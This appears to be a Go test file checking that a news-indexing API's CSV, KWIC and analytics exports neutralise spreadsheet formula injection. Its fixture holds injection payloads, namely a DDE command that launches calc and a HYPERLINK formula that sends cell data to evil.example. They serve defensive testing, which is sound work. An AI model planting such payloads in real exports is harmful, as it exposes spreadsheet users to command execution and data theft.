package httpapi

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"newsdex/indexer"
)

func TestSafeCell(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"empty", "", ""},
		{"plain", "Wheat harvest", "Wheat harvest"},
		{"formula", "=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"},
		{"plus", "+1 555 0100", "'+1 555 0100"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"inner equals", "a=b", "a=b"},
		{"leading space", " =1", " =1"},
		{"apostrophe", "'quoted", "'quoted"},
		{"digit", "2019-01-31", "2019-01-31"},
		{"non-ASCII", "É=1", "É=1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := safeCell(tt.in); got != tt.want {
				t.Errorf("safeCell(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// formulaArticles carry spreadsheet formulas in every text field a CSV
// export writes.
func formulaArticles() []indexer.Article {
	return []indexer.Article{{
		ID:            "=cmd|' /C calc'!A0",
		Title:         "=HYPERLINK(\"http://evil.example/?\"&A1,\"harvest news\")",
		Body:          "-harvest grew +10% @ the port",
		Source:        "+Wire",
		URL:           "https://example.org/a",
		Published:     time.Date(2019, 1, 2, 0, 0, 0, 0, time.UTC),
		Persons:       []string{"@Ann Lee"},
		Organizations: []string{"-Grain Board"},
	}}
}

// TestExportCSVNeutralisesFormulas exports articles whose fields start
// with formula characters: CSV cells get a leading apostrophe, raw=true
// keeps them as stored, and JSON Lines is always exact.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	a := formulaArticles()[0]
	h := newTestServer(t, uiService(t, nil, a))
	safe := []string{"'" + a.ID, "'" + a.Title, "'" + a.Source, "2019-01-02T00:00:00Z", a.URL, "'@Ann Lee", "'-Grain Board", "", "'" + a.Body}
	raw := []string{a.ID, a.Title, a.Source, "2019-01-02T00:00:00Z", a.URL, "@Ann Lee", "-Grain Board", "", a.Body}
	tests := []struct {
		name, params string
		want         []string
		wantStatus   int
	}{
		{"default is safe", "", safe, 200},
		{"raw=false is safe", "&raw=false", safe, 200},
		{"raw=true is exact", "&raw=true", raw, 200},
		{"raw=1 is exact", "&raw=1", raw, 200},
		{"bad raw", "&raw=yes", nil, http.StatusBadRequest},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := get(t, h, "/api/v1/export?q=harvest&format=csv&text=full"+tt.params)
			if rec.Code != tt.wantStatus {
				t.Fatalf("status %d, want %d: %s", rec.Code, tt.wantStatus, rec.Body)
			}
			if tt.want == nil {
				if !strings.Contains(rec.Body.String(), "raw must be true or false") {
					t.Errorf("body %s does not name raw", rec.Body)
				}
				return
			}
			rows := readCSV(t, rec.Body.Bytes(), append(exportHeader[:len(exportHeader):len(exportHeader)], "body"))
			if len(rows) != 1 {
				t.Fatalf("%d rows, want 1", len(rows))
			}
			if diff := cmp.Diff(tt.want, rows[0]); diff != "" {
				t.Errorf("row (-want +got):\n%s", diff)
			}
		})
	}
	t.Run("jsonl is exact", func(t *testing.T) {
		rec := get(t, h, "/api/v1/export?q=harvest&format=jsonl&text=full")
		rows := readJSONL[exportRow](t, rec.Body.Bytes())
		if len(rows) != 1 || rows[0].ID != a.ID || rows[0].Title != a.Title || *rows[0].Body != a.Body || rows[0].Persons[0] != "@Ann Lee" {
			t.Errorf("JSON Lines row changed: %+v", rows)
		}
	})
}

// TestKWICCSVNeutralisesFormulas checks the same for KWIC lines, whose
// left context can start with anything.
func TestKWICCSVNeutralisesFormulas(t *testing.T) {
	a := formulaArticles()[0]
	h := newTestServer(t, uiService(t, nil, a))
	for _, tt := range []struct {
		params          string
		wantID, wantTit string
	}{
		{"", "'" + a.ID, "'" + a.Title},
		{"&raw=true", a.ID, a.Title},
	} {
		rec := get(t, h, "/api/v1/kwic?q=harvest&format=csv"+tt.params)
		if rec.Code != http.StatusOK {
			t.Fatalf("status %d: %s", rec.Code, rec.Body)
		}
		rows := readCSV(t, rec.Body.Bytes(), kwicColumns)
		if len(rows) == 0 {
			t.Fatal("no KWIC lines")
		}
		for _, r := range rows {
			if r[0] != tt.wantID || r[1] != tt.wantTit {
				t.Errorf("params %q: id %q title %q, want %q %q", tt.params, r[0], r[1], tt.wantID, tt.wantTit)
			}
			if tt.params == "" {
				for i, cell := range r {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("cell %d %q starts a formula", i, cell)
					}
				}
			}
		}
	}
}

// TestAnalyticsCSVNeutralisesFormulas checks the timeline and
// co-occurrence CSV downloads as the exports: cells a spreadsheet would
// read as formulas get an apostrophe, raw=true writes them as stored,
// and a bad raw is a 400 naming it.
func TestAnalyticsCSVNeutralisesFormulas(t *testing.T) {
	a := formulaArticles()[0]
	h := newTestServer(t, uiService(t, nil, a))
	tests := []struct {
		name, target string
		formulas     []string // cells as stored that start a formula
	}{
		{"timeline", "/api/v1/timeline?q=-nothingsuch+harvest&interval=year&format=csv", []string{"-nothingsuch harvest", "-nothingsuch harvest share"}},
		{"cooccurrence", "/api/v1/cooccurrence?q=harvest&format=csv", []string{"@Ann Lee", "-Grain Board"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cells := func(params string) []string {
				rec := get(t, h, tt.target+params)
				if rec.Code != http.StatusOK {
					t.Fatalf("status %d: %s", rec.Code, rec.Body)
				}
				rows, err := csv.NewReader(bytes.NewReader(rec.Body.Bytes())).ReadAll()
				if err != nil || len(rows) < 2 {
					t.Fatalf("CSV %q: %d rows, %v", rec.Body, len(rows), err)
				}
				var out []string
				for _, r := range rows {
					out = append(out, r...)
				}
				return out
			}
			safe, raw := cells(""), cells("&raw=true")
			for _, f := range tt.formulas {
				if !slices.Contains(raw, f) {
					t.Errorf("raw=true: no cell %q in %q", f, raw)
				}
				if !slices.Contains(safe, "'"+f) {
					t.Errorf("default: no cell %q in %q", "'"+f, safe)
				}
			}
			for i, cell := range safe {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %d %q starts a formula", i, cell)
				}
			}
			if rec := get(t, h, tt.target+"&raw=yes"); rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), "raw must be true or false") {
				t.Errorf("raw=yes: status %d %s, want 400 naming raw", rec.Code, rec.Body)
			}
		})
	}
}
